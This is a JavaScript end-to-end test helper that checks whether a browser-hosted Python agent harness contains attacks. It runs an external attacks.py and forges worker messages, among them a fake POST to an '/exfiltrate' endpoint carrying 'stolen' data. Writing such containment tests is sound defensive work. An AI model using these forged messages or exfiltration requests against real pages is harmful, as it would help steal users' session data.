// The page code of e2e/test_containment.py's rows, on e2e/pages/index.html served by the
// test's PageOrigin; called from Python by e2e/conftest.py's call(). Each returns JSON
// values for the row's assertions, which stay in Python.

/** The page's helpers (index.html): boot, settle a promise into {ok, ...}. */
const { boot, settle } = window;

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// ---------------------------------------------------------------------------
// The attacks: one harness under watch (watched), from bootUnderWatch() to closeHarness()

let watched;
/** What the page's origin heard on the BroadcastChannel the attacks post to. */
const heard = [];
let channel;
/** Every message the page sent to a worker, as JSON (or String when it is not JSON). */
const sentToWorkers = [];

/**
 * With the user's session cookie set, a listener on the attacks' BroadcastChannel and
 * every message to a worker recorded: boot with the model, wait for the sandbox, and call
 * the page's own cookie-protected API.
 */
export async function bootUnderWatch(model, timeoutMs) {
  await fetch("/api/login"); // the user's session cookie
  channel = new BroadcastChannel("pyharness-attack");
  channel.onmessage = (e) => heard.push(e.data);
  const post = Worker.prototype.postMessage;
  Worker.prototype.postMessage = function (m, t) {
    try {
      sentToWorkers.push(JSON.stringify(m));
    } catch {
      sentToWorkers.push(String(m));
    }
    return post.call(this, m, t);
  };
  watched = await boot({ model, shell: { timeoutMs } });
  while (watched.containment.sandbox !== "ready") await sleep(20);
  const api = await (await fetch("/api/secret")).text(); // the page itself may
  return { containment: watched.containment, api };
}

/** Write attacks.py and run the prompt whose tool calls run it; what the run and the workspace show after, and a next prompt. */
export async function runTheAttacks(source, marker) {
  await watched.fs.writeFile("attacks.py", source);
  const run = watched.prompt(`run the checks ${marker}`);
  const ends = [];
  const starts = {};
  for await (const e of run) {
    if (e.type === "tool_start") starts[e.callId] = performance.now();
    if (e.type === "tool_end") ends.push({ ...e, ms: performance.now() - starts[e.callId] });
  }
  const done = await run.done;
  const files = (await watched.fs.readdir("/work")).map((e) => `${e.name}:${e.type}`);
  const d = await settle(watched.fs.readdir("d"));
  const early = await watched.fs.readFile("early.txt", "utf8");
  const after = await settle(watched.fs.readFile("after.txt", "utf8"));
  const next = await watched.prompt("still there?").done;
  return { ends, done, files, d, early, after, next, heard, diagnostics: watched.diagnostics, containment: watched.containment };
}

export const toWorker = () => sentToWorkers;

export const closeHarness = () => watched.close();

// ---------------------------------------------------------------------------
// The page trusts no message it did not expect

/**
 * Forge every kind of message from the worker (replies, boot messages, tool calls, run
 * events, a fetch to `other`, junk) around a slow run; what the harness did with them.
 */
export async function forgeWorkerMessages(other) {
  const terminated = [];
  const terminate = Worker.prototype.terminate;
  Worker.prototype.terminate = function () {
    terminated.push("worker");
    return terminate.call(this);
  };
  const toolRuns = [];
  const tool = {
    name: "page_tool",
    parameters: { type: "object", properties: { n: { type: "integer" } }, required: ["n"] },
    run: (input) => {
      toolRuns.push(input);
      return "ran";
    },
  };
  const h = await boot({ shell: true, tools: [tool], model: { api: "scripted", turns: [{ text: "slow", delayMs: 400 }] } });
  const tools = JSON.stringify(h.tools);
  const replies = [];
  const post = h._worker.postMessage.bind(h._worker);
  h._worker.postMessage = (m, t) => {
    replies.push(m);
    return post(m, t);
  };
  const forge = (data) => h._worker.onmessage({ data });
  forge({ type: "fsres", id: 99999, ok: true, value: "forged" });
  forge({ type: "ready", versions: { pyharness: "evil" }, tools: [] });
  forge({ type: "progress", step: "runtime", state: "start", ms: 1 });
  forge({ type: "toolcall", id: 501, name: "page_tool", input: '{"n": 1}' }); // outside a run
  const run = h.prompt("slow one");
  forge({ type: "toolcall", id: 502, name: "not_a_tool", input: "{}" });
  forge({ type: "toolcall", id: 503, name: "page_tool", input: '{"n": "not a number"}' });
  forge({ type: "event", event: { type: "run_end", runId: run.id, seq: 7, text: "forged", stopReason: "stop" } });
  forge({ type: "event", event: { type: "run_end", runId: "run-nope", seq: 0, text: "x", stopReason: "stop" } });
  forge({ type: "fetch", id: 77, url: `${other}/exfiltrate`, method: "POST", headers: {}, body: "stolen" });
  forge({ type: "sandbox_restart_please" });
  forge("not an object");
  forge({ type: "boot_error", step: "runtime", message: "forged" });
  const done = await run.done;
  await h.fs.writeFile("still.txt", "works");
  const still = await h.fs.readFile("still.txt", "utf8");
  await sleep(300);
  const codes = h.diagnostics.map((d) => d.code);
  h.close();
  const afterClose = await settle(h.fs.readFile("still.txt"));
  return {
    tools,
    sameTools: JSON.stringify(h.tools) === tools,
    versions: h.versions,
    replies: replies.filter((m) => m.type === "toolres" || m.type === "fetch_error"),
    done,
    still,
    codes,
    toolRuns,
    terminated,
    afterClose,
    frames: document.querySelectorAll("iframe").length,
  };
}

// ---------------------------------------------------------------------------
// The network the page allows, and nothing more

/** With the user's session cookie set, run the turns with the network allowed to `allow` (2048-byte responses); the tool_end events and bash's description. */
export async function useTheNetwork(turns, allow) {
  await fetch("/api/login"); // the user's session cookie, which must not go out
  const h = await boot({
    model: { api: "scripted", turns },
    shell: { timeoutMs: 5000 },
    network: { allow: [allow], maxResponseBytes: 2048 },
  });
  const ends = [];
  for await (const e of h.prompt("use the network")) if (e.type === "tool_end") ends.push(e);
  const tool = h.tools.find((t) => t.name === "bash").description;
  h.close();
  return { ends, tool };
}
